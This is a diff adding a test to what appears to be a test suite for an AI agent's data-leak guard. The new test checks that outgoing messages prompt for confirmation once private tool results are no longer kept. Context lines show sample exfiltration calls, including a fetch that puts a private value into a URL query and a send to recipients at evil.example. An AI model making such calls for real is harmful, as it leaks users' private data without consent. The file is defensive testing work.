@@ -226,6 +226,15 @@ test("a private value does not leave unasked once text of others was read", asyn
   expect(await call("fetch", { url: "https://a.example/?p=HGK137803" })).toBe(false);
 });
 
+test("where private results are no longer kept, every text that leaves asks and says so, except the user's own", async () => {
+  const { session, asked, call } = await open("Hello.");
+  session.state(textsRead).notePrivate("x".repeat(1_000_001), { tool: "export_all" });
+  noteUserMessage(session, "Tell ann: see you at the fair.");
+  expect(await call("send", { to: "ann", body: "The code word is swordfish." })).toBe(false);
+  expect(asked).toEqual([expect.stringContaining("private value of export_all, from a result that is no longer kept")]);
+  expect(await call("send", { to: "ann", body: "see you at the fair." })).toBe(true);
+});
+
 test("every recipient is shown, since all of them are agreed to", async () => {
   const recipients = Array.from({ length: 12 }, (_, i) => `colleague${i}@evil.example`);
   const { asked, call } = await open(`Send it to ${recipients.join(" and ")}`);
